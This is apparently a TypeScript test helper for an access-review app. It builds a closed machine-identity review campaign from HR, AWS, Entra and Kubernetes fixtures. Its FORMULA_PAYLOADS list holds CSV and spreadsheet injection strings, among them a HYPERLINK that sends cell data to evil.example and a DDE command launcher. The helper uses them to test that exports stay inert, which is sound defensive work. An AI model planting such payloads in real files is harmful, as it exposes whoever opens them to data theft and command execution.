import { join } from 'node:path';
import type { MethodOutput } from '../../shared/api/contract';
import { createCore, type Core } from '../../electron/core/core';
import { tempFolder } from './temp-folder';
import { TEST_PASSPHRASE } from './unlocked-vault';
import { dispatchOrThrow } from './dispatch';

const FIXTURES = join(__dirname, '..', 'fixtures');
export const CAMPAIGN_OWNER = 'ana.silva@northwindlogistics.example';
const NEW_OWNER = 'keiko.jensen@northwindlogistics.example';

type Item = MethodOutput<'campaigns.items'>['items'][number];

/** Text a spreadsheet would evaluate, written as justifications to prove the workpapers keep it inert. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A2)',
  '\tTabbed justification',
  '\rCarriage return justification',
];

export interface EvidenceCampaign {
  core: Core;
  folder: string;
  campaignId: number;
  items: Item[];
  exceptions: number[];
}

/**
 * A real vault with the HR roster, the AWS credential report, the Entra service principals and the
 * EKS service accounts; a campaign launched over them, every item decided by its reviewer with each
 * decision type (certify, revoke of the identity, of a credential and of an entitlement, reassign),
 * a few left undecided and carried as exceptions at the close, and every reviewer signed off.
 */
export async function closedEvidenceCampaign(
  options: { signer?: boolean; folder?: string; injection?: boolean } = {},
): Promise<EvidenceCampaign> {
  const folder = options.folder ?? tempFolder('steward-evidence-');
  const core = createCore({ vaultFolder: folder, appVersion: '0.1.0-test' });
  await dispatchOrThrow(core, 'vault.create', { passphrase: TEST_PASSPHRASE });
  await dispatchOrThrow(core, 'people.import', { path: join(FIXTURES, 'hr', 'hr_roster.csv') });
  await dispatchOrThrow(core, 'imports.run', { paths: [join(FIXTURES, 'aws', 'iam_credential_report.csv')] });
  await dispatchOrThrow(core, 'imports.run', {
    paths: [
      join(FIXTURES, 'entra', 'servicePrincipals_page1.json'),
      join(FIXTURES, 'entra', 'servicePrincipals_page2.json'),
      join(FIXTURES, 'entra', 'servicePrincipalSignInActivities.json'),
    ],
  });
  await dispatchOrThrow(core, 'imports.run', {
    paths: [
      join(FIXTURES, 'kubernetes', 'serviceaccounts.json'),
      join(FIXTURES, 'kubernetes', 'clusterrolebindings.json'),
    ],
    source: 'nwl-prod-eks',
  });
  // A CMDB export whose names, owners and purposes are spreadsheet formulas (and a leading tab and CR).
  if (options.injection)
    await dispatchOrThrow(core, 'imports.run', {
      paths: [join(FIXTURES, 'messy', 'csv_injection_payloads.csv')],
    });
  if (options.signer !== false)
    await dispatchOrThrow(core, 'signer.create', {
      name: 'Dana Whitfield',
      email: 'dana.whitfield@northwindlogistics.example',
    });
  const campaign = await dispatchOrThrow(core, 'campaigns.create', {
    name: 'Q4 2026 machine identity review',
    period: '2026-Q4',
    asOf: '2026-11-01',
    due: '2026-11-30',
    owner: CAMPAIGN_OWNER,
  });
  await dispatchOrThrow(core, 'campaigns.launch', { campaignId: campaign.id, actor: CAMPAIGN_OWNER });
  const items: Item[] = [];
  for (let offset = 0; ; offset += 1000) {
    const page = await dispatchOrThrow(core, 'campaigns.items', {
      campaignId: campaign.id,
      limit: 1000,
      offset,
    });
    items.push(...page.items);
    if (page.items.length < 1000) break;
  }

  // Leave the last two items of the campaign owner's queue undecided: they become exceptions.
  const ownerItems = items.filter((i) => i.reviewer === CAMPAIGN_OWNER);
  const exceptions = ownerItems.slice(-2).map((i) => i.id);
  let payload = 0;
  let n = 0;
  for (const item of items) {
    if (exceptions.includes(item.id)) continue;
    n += 1;
    const base = { campaignId: campaign.id, itemId: item.id, actor: item.reviewer };
    let decision: Record<string, unknown>;
    const credential = item.identity.credentials.find((c) => c.externalId);
    const entitlement = item.identity.entitlements[0];
    if (n % 7 === 1 && credential)
      decision = {
        decision: 'revoke',
        target: { type: 'credential', ref: credential.externalId },
        justification: 'Key not used since the last rotation; the service authenticates with a role now.',
      };
    else if (n % 7 === 2 && entitlement)
      decision = {
        decision: 'revoke',
        target: { type: 'entitlement', ref: entitlement.name },
        justification: 'Least privilege: this entitlement is not needed for the job it runs.',
      };
    else if (n % 7 === 3)
      decision = {
        decision: 'revoke',
        justification: 'Decommissioned with the legacy pipeline; remove the account.',
      };
    else if (n % 7 === 4)
      decision = {
        decision: 'reassign',
        newOwner: NEW_OWNER,
        justification: 'The team that runs it moved under Customer Integrations.',
      };
    else if (n % 11 === 5)
      decision = {
        decision: 'certify',
        justification: FORMULA_PAYLOADS[payload++ % FORMULA_PAYLOADS.length],
      };
    else
      decision = {
        decision: 'certify',
        justification: item.highRisk
          ? 'Reviewed with the owner: needed for the nightly settlement job.'
          : undefined,
      };
    await dispatchOrThrow(core, 'decisions.record', { ...base, ...decision });
  }
  const reviewers = [...new Set(items.map((i) => i.reviewer))];
  for (const reviewer of reviewers) {
    if (reviewer === CAMPAIGN_OWNER) continue;
    await dispatchOrThrow(core, 'campaigns.signOff', { campaignId: campaign.id, actor: reviewer });
  }
  await dispatchOrThrow(core, 'campaigns.close', {
    campaignId: campaign.id,
    actor: CAMPAIGN_OWNER,
    exceptions: exceptions.map((itemId) => ({
      itemId,
      reason: 'Owner on leave until January; compensating control: key disabled in the meantime.',
    })),
  });
  return { core, folder, campaignId: campaign.id, items, exceptions };
}

export { dispatchOrThrow as mustDispatch, TEST_PASSPHRASE };
